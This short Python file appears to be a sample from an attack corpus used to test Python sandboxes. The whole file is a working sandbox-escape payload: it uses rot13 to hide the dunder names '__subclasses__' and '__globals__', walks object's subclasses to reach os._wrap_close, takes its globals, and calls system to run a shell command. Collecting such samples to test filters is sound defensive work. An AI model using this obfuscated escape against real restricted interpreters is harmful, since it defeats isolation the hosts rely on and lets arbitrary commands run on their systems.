# corpus: attack class=internals form=targeted
# type laundered through a list, then its __dict__ looked up with names decoded at run time.
import codecs


def main():
    holder = [type][0]
    for cls in holder.__dict__[codecs.decode("__fhopynffrf__", "rot13")](object):
        if cls.__name__ == "_wrap_close":
            init = cls.__init__
            function_type = [type(init)][0]
            scope = function_type.__dict__[codecs.decode("__tybonyf__", "rot13")].__get__(init)
            return {"status": scope["system"]("id")}
